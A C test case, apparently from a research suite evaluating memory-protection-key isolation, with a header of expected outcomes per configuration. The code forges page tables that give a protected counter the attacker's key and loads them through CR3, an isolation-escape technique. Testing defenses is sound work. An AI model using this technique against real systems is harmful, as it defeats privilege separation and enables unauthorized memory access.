/*
{
  "title": "Page tables of the extension's own, in which the application's counter has its key",
  "precondition": "CR4.PKE = 1",
  "reference": "Dautenhahn et al., Nested Kernel: An Operating System Architecture for Intra-Kernel Privilege Separation, ASPLOS 2015, section 3; Intel 64 and IA-32 Architectures Software Developer's Manual, volume 3A, section 4.5",
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I3", "event": "controlRegisterWrite"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "contained", "event": "exception"},
    "pks-hardened": {"outcome": "refused"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"
#include "processor.h"

static uint64_t tables[5 * 512];

// Copies the tables that lead to the counter, level by level, and gives it the extension's own key.
static uint64_t own_tables(void) {
  uint64_t *table = (uint64_t *)(((uint64_t)tables + PAGE - 1) & ~(uint64_t)(PAGE - 1));
  const volatile uint64_t *from = (const volatile uint64_t *)(read_cr3() & ADDRESS_MASK);
  uint64_t root = 0;
  volatile uint64_t *link = &root;
  for (int shift = 39;; shift -= 9, table += 512) {
    for (int at = 0; at < 512; at++) table[at] = from[at];
    *link = (*link & ~ADDRESS_MASK) | physical(table);
    link = table + ((uint64_t)&count >> shift & 511);
    if (shift == 12) break;
    from = (const volatile uint64_t *)(*link & ADDRESS_MASK);
  }
  *link = (*link & ~KEY_MASK) | own_key();
  return root;
}

int main(void) {
  BYPASS_OF_KEYS(write_cr3(own_tables()));
  GOAL_COUNT();
  return 0;
}
